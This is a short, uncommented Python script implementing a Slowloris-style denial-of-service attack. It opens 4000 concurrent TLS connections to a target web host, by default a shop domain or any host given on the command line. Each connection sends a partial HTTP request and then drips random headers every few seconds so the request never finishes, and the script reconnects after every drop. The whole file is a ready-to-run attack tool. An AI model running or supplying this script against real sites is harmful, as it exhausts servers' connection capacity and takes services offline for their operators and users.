import asyncio
import random
import ssl
import sys


async def hold(host, port, tls):
    ctx = ssl._create_unverified_context() if tls else None
    while True:
        try:
            r, w = await asyncio.open_connection(host, port, ssl=ctx)
            w.write(f"GET /?{random.random()} HTTP/1.1\r\nHost: {host}\r\n".encode())
            while True:
                await asyncio.sleep(random.uniform(5, 12))
                w.write(f"X-{random.randrange(10**6)}: {random.randrange(10**6)}\r\n".encode())
                await w.drain()
        except (OSError, asyncio.CancelledError):
            await asyncio.sleep(0.1)


async def main():
    host = sys.argv[1] if len(sys.argv) > 1 else "shop.example.com"
    await asyncio.gather(*(hold(host, 443, True) for _ in range(4000)))


asyncio.run(main())
